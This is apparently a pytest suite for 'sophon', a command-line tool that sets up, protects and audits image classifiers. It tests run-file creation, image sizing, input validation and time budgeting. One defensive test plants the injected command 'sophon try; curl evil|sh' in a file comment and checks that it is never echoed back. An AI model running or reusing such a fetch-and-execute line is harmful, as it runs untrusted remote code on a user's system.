"""From two folders to a run file, and to a first report."""

from __future__ import annotations

import os
import shlex
import shutil
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from PIL import Image
from safetensors.torch import save_file
from typer.testing import CliRunner, Result

from sophon._cli import app
from sophon._cli.first_look import USUAL, _attacks_within
from sophon._cli.run_file import load, read_run
from sophon._data.images import open_picture
from sophon._models import resolve_model, stated_input
from sophon._models.networks import ResNet20
from sophon._models.own_input import OwnInput
from sophon._specs import AuditSpec, Guard, ModelSpec

CLASSES, EACH = 2, 40


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with stripes to keep and patches to refuse, each told by its angle."""
    root = tmp_path_factory.mktemp("folders")
    stream = np.random.default_rng(0)
    for name, period in (("photos", 6), ("faces", 11)):
        for label in range(CLASSES):
            (root / name / f"class{label}").mkdir(parents=True)
            for number in range(EACH):
                across, down = np.meshgrid(np.arange(40), np.arange(32))
                wave = np.sin(6.28 * (down if label else across) / period + stream.uniform(0, 6))
                pixels = 127 + 90 * wave[..., None] + stream.normal(0, 10, (32, 40, 3))
                picture = Image.fromarray(pixels.clip(0, 255).astype(np.uint8))
                picture.save(root / name / f"class{label}" / f"{number}.jpg")
    return root


def sophon(*words: object) -> Result:
    return CliRunner().invoke(app, [str(word) for word in words])


def options(folders: Path, *more: object) -> tuple[object, ...]:
    return ("--keep", folders / "photos", "--refuse", folders / "faces", *more)


def test_init_writes_a_run_file_that_is_read_and_never_replaces_one(
    folders: Path, tmp_path: Path
) -> None:
    out = tmp_path / "deep" / "run.toml"
    words = options(folders, "--allow", folders / "faces", "--out", out)
    made = sophon("init", "--model", "timm:resnet18", *words)
    assert made.exit_code == 0, made.stderr
    spec = read_run(out, None)
    assert (spec.model.name, spec.original.image_size) == ("timm:resnet18", 64)
    assert (out.parent / str(spec.original.path)).resolve() == folders / "photos"
    # As timm's published weights of it take their images.
    for domain in (spec.original, *spec.restricted, *spec.benign):
        assert (domain.interpolation, domain.crop_pct) == ("bicubic", 0.95)
    assert len(spec.benign) == 1
    # What can acquit: no suite cut down.
    assert (spec.audit.suite, spec.audit.steps, spec.audit.seeds) == ("quick-2", 200, (0, 1, 2))
    assert not spec.audit.model_fields_set & {"evaluations", "batch_size"}
    # One tolerance for whoever says none, in the README, too.
    assert spec.protect.guard is not None
    assert spec.protect.guard.tolerance_points == Guard().tolerance_points
    readme = (Path(__file__).parents[2] / "README.md").read_text()
    assert f"tolerance_points = {Guard().tolerance_points}" in readme
    before = out.read_text()
    again = sophon("init", "--model", "resnet20", *words)
    assert again.exit_code == 2
    assert "exists already" in again.stderr
    assert out.read_text() == before


def test_a_network_that_squashes_its_images_gets_them_squashed(
    folders: Path, tmp_path: Path
) -> None:
    out = tmp_path / "run.toml"
    made = sophon("init", "--model", "timm:coat_lite_medium_384", *options(folders, "--out", out))
    assert made.exit_code == 0, made.stderr
    assert "# squashed; the same" in out.read_text()
    spec = read_run(out, None)
    for domain in (spec.original, *spec.restricted):
        assert (domain.crop_mode, domain.interpolation) == ("squash", "bicubic")


def test_a_border_that_no_domain_can_have_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    own = OwnInput((0.5,), (0.5,), "bicubic", crop_pct=0.9, stated="timm", crop_mode="border")
    monkeypatch.setattr("sophon._models.building.own_input", lambda _: own)
    assert stated_input(ModelSpec(name="resnet20")) is None


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--model", "timm:vit_tiny_patch16_224"), "224"),
        (("--model", "torchvision:vit_b_32"), "224"),
        (("--model", "resnet20", "--image-size", "32"), "32"),
    ],
)
def test_images_get_the_size_that_the_network_takes(
    folders: Path, tmp_path: Path, words: tuple[str, ...], said: str
) -> None:
    made = sophon("init", *words, *options(folders, "--out", tmp_path / "run.toml"))
    assert made.exit_code == 0, made.stderr
    text = (tmp_path / "run.toml").read_text()
    assert f"image_size = {said}" in text
    assert ("interpolation" in text) == ("resnet20" not in words)


def test_a_folder_that_brings_its_weights_is_named_from_the_run_file_and_not_trained(
    folders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    transformers = pytest.importorskip("transformers")
    config = transformers.ViTConfig(
        hidden_size=8,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=8,
        image_size=32,
        patch_size=16,
        num_labels=CLASSES,
    )
    transformers.ViTForImageClassification(config).save_pretrained(tmp_path / "vit")
    checkpoint = tmp_path / "own"
    checkpoint.mkdir()
    (checkpoint / "model.json").write_text('{"model": {"name": "resnet20", "classes": 2}}')
    save_file(ResNet20(classes=CLASSES).state_dict(), checkpoint / "model.safetensors")
    monkeypatch.chdir(tmp_path)
    for name, placed, size in (
        ("transformers:vit", "transformers:../vit", 32),
        ("own", "../own", 64),
    ):
        out = Path("runs") / f"{name.rpartition(':')[2]}.toml"
        made = sophon("init", "--model", name, *options(folders, "--out", out))
        assert made.exit_code == 0, made.stderr
        text = out.read_text()
        assert "it brings its weights" in text
        assert f'name = "{placed}"' in text
        assert f"image_size = {size}" in text
        checked = sophon("evaluate", out)
        assert checked.exit_code == 0, checked.stderr


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--model", "timm:resnet81"), "did you mean"),
        (("--model", "resnet20", "--weights", "none.pth"), "none.pth"),
        (("--model", "resnet20", "--allow", "nowhere"), "--allow: there is no folder nowhere"),
        (("--model", "resnet20", "--refuse", "FLAT"), "--refuse: "),
    ],
)
def test_what_cannot_be_used_is_said_before_a_file_is_written(
    folders: Path, tmp_path: Path, words: tuple[str, ...], said: str
) -> None:
    flat = str(folders / "photos" / "class0")
    chosen = [flat if word == "FLAT" else word for word in words]
    for command in ("init", "try"):
        made = sophon(command, *options(folders, "--out", tmp_path / "new"), *chosen)
        assert made.exit_code == 2
        assert said in made.stderr
        assert not (tmp_path / "new").exists()


def damaged(folder: Path) -> None:
    (folder / "class0" / "0.jpg").write_bytes(b"no image")


def of_one_class(folder: Path) -> None:
    shutil.rmtree(folder / "class0")


def of_few(folder: Path) -> None:
    for file in folder.rglob("[1-9]?.jpg"):
        file.unlink()
    for number in range(4, 10):
        (folder / "class0" / f"{number}.jpg").unlink()


@pytest.mark.parametrize("spoil", [damaged, of_one_class, of_few])
def test_images_that_protect_would_refuse_are_refused_at_once_in_its_words(
    folders: Path, tmp_path: Path, spoil: Callable[[Path], None]
) -> None:
    words = ("--model", "small_convnet", "--image-size", "12", *options(folders))
    refused, whole = tmp_path / "faces", tmp_path / "whole.toml"
    shutil.copytree(folders / "faces", refused)
    assert sophon("init", *words, "--refuse", refused, "--out", whole).exit_code == 0
    spoil(refused)
    out = tmp_path / "new"
    protected = sophon("protect", whole, "--out", out)
    assert protected.exit_code == 2
    for command in ("init", "try"):
        made = sophon(command, *words, "--refuse", refused, "--out", out)
        assert made.exit_code == 2
        what, _, said = made.stderr.replace(os.path.relpath(refused), str(refused)).partition("\n")
        assert what.startswith("reading all images once")
        # Lines break elsewhere where a path is longer.
        assert said.replace("--refuse: ", "restricted: ").split() == protected.stderr.split()
        assert not out.exists()


def test_try_reads_each_image_once(
    folders: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[Path] = []

    def looked_at(path: Path, *rest: Any) -> Any:
        opened.append(path)
        return open_picture(path, *rest)

    monkeypatch.setattr("sophon._data.sources.decoded.open_picture", looked_at)
    monkeypatch.setattr("sophon._cli.starting.affordable", lambda *_, **__: USUAL)
    monkeypatch.setattr("sophon._cli.starting.first_look", lambda run, *_, **__: load(run, None))
    words = ("--model", "small_convnet", "--weights", tmp_path / "w.pt", "--image-size", "12")
    torch.save(
        resolve_model(ModelSpec(name="small_convnet", classes=CLASSES))[0].state_dict(),
        tmp_path / "w.pt",
    )
    made = sophon("try", *words, *options(folders), "--out", tmp_path / "look")
    assert made.exit_code == 0, made.stderr
    assert len(opened) == 2 * CLASSES * EACH
    load(tmp_path / "look" / "run.toml", None)
    assert len(opened) == 2 * 2 * CLASSES * EACH


def test_a_linked_folder_is_named_by_its_link(folders: Path, tmp_path: Path) -> None:
    (tmp_path / "mine").symlink_to(folders / "photos")
    places = ("--keep", tmp_path / "mine", "--refuse", folders / "faces")
    words = ("--model", "small_convnet", "--image-size", "12", *places)
    assert sophon("init", *words, "--out", tmp_path / "run.toml").exit_code == 0
    held = tomllib.loads((tmp_path / "run.toml").read_text())
    assert held["original"]["path"] == "mine"
    assert load(tmp_path / "run.toml", None).original.class_count == CLASSES


def test_folders_of_one_name_get_names_of_their_own(folders: Path, tmp_path: Path) -> None:
    for task in ("photos", "faces"):
        shutil.copytree(folders / task, tmp_path / "of" / task / "images")
    at, out = tmp_path / "of", tmp_path / "run.toml"
    places = ("--keep", at / "photos/images", "--refuse", at / "faces/images")
    words = ("--model", "small_convnet", "--image-size", "12", *places)
    assert sophon("init", *words, "--out", out).exit_code == 0
    held = tomllib.loads(out.read_text())
    assert (held["original"]["name"], held["restricted"][0]["name"]) == (
        "photos-images",
        "faces-images",
    )


def test_a_task_to_keep_is_not_refused(folders: Path, tmp_path: Path) -> None:
    words = ("--model", "small_convnet", *options(folders, "--refuse", folders / "photos"))
    made = sophon("init", *words, "--out", tmp_path / "run.toml")
    assert made.exit_code == 2
    assert "is the same data as" in made.stderr


def test_what_a_file_says_is_no_command_and_what_lies_beside_it_no_audit(tmp_path: Path) -> None:
    (tmp_path / "run.toml").write_text("# Written by `sophon try; curl evil|sh`.\n")
    for folder, said in ((tmp_path, True), (tmp_path / "audit", True), (tmp_path / "x", False)):
        error = sophon("report", folder).stderr
        assert "evil" not in error
        assert ("repeat its `sophon try` command" in error) == said


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [
        (10_000, ("quick-2", 200)),
        (500, ("quick-2", 50)),
        (165, ("quick-2", 16)),
        (159, ("look-1", 159)),
        (3, ("look-1", 16)),
    ],
)
def test_as_many_steps_are_chosen_as_fit_by_few_plans(
    seconds: float, expected: tuple[str, int]
) -> None:
    asked: list[AuditSpec] = []

    class Priced:
        spec = AuditSpec()

        def cost(self, spec: AuditSpec) -> float:
            asked.append(spec)
            return spec.steps * {"quick-2": 10.0, "look-1": 1.0}[spec.suite]

    chosen: Any = _attacks_within(seconds, Priced())  # type: ignore[arg-type]
    assert chosen[:2] == expected
    assert chosen[2] == asked[-1].steps * (10 if chosen[0] == "quick-2" else 1)
    assert len(asked) <= 12


def require_printed(lines: list[str], out: Path) -> None:
    """Require that what is printed to go on with has the settings that `sophon try` had."""
    protect, audit = map(shlex.split, lines)
    assert audit[audit.index("--model") + 1] == str(out / "whole")
    for printed in (protect, audit):
        assert "protect.guard.tolerance_points=90" in printed
    # The later counts.
    assert protect[-1].startswith("protect.rounds=")
    assert protect.index("protect.rounds=20") < len(protect) - 1
    assert audit[-1] == "audit.seeds=[0,1,2]"


@pytest.mark.slow
def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_path: Path) -> None:
    out = tmp_path / "look"
    words = ["try", "--model", "small_convnet", "--image-size", "12"]
    words += ["--out", str(out), "--budget", "10s"]
    for setting in ("pretrain.steps=30", "protect.guard.tolerance_points=90", "audit.steps=2"):
        words += ["--set", setting]
    words += ["--set", "protect.rounds=20", "--set", "audit.evaluations=2"]
    first = sophon(*words, *options(folders))
    assert first.exit_code == 0, first.stderr
    # More than there is time for: the least, and that it is more.
    assert "more than the budget of 10 s" in first.stderr
    assert "so few may keep no weights" in first.stderr
    assert "training" in first.stderr.split("forecast: ")[1].splitlines()[0]
    assert first.stderr.count("forecast: ") == 1
    assert "convict and not acquit" in first.stdout.splitlines()[-3]
    require_printed(first.stdout.splitlines()[-2:], out)
    assert "trained: photos validation" in first.stderr
    assert str(out / "audit" / "report.html") in first.stdout
    assert (out / "audit" / "report.html").is_file()
    spec = read_run(out / "run.toml", None)
    assert spec.protect.rounds is not None
    # One of so few validation images is more than the usual three points.
    assert spec.protect.guard is not None
    assert spec.protect.guard.tolerance_points > 30
    assert spec.protect.rounds >= 10
    # With the last round as the only check, weights of an earlier one could not be shipped.
    assert spec.protect.guard.every == spec.protect.rounds // 5
    assert spec.audit.suite == "look-1"
    # As another version would word it.
    text = (out / "run.toml").read_text()
    (out / "run.toml").write_text(text.replace("# What is left out has", "# All else has\n\n#"))
    held = (out / "run.toml").read_bytes(), (out / "start" / "model.safetensors").stat().st_mtime
    again = sophon(*words, *options(folders))
    assert again.exit_code == 0, again.stderr
    assert "is complete" in again.stderr
    assert "trained" not in again.stderr
    assert (out / "run.toml").read_bytes() == held[0]
    assert (out / "start" / "model.safetensors").stat().st_mtime == held[1]
    assert sophon("report", out).stdout.splitlines()[-1].startswith("verdict: ")
    (out / "audit" / "record.json").unlink()
    for folder in (out, out / "audit"):
        unfinished = sophon("report", folder)
        assert unfinished.exit_code == 2
        assert "repeat its `sophon try` command" in unfinished.stderr
    other = sophon(*words, "--keep", folders / "faces", "--refuse", folders / "photos")
    assert other.exit_code == 2
    assert "other options (original, restricted)" in other.stderr
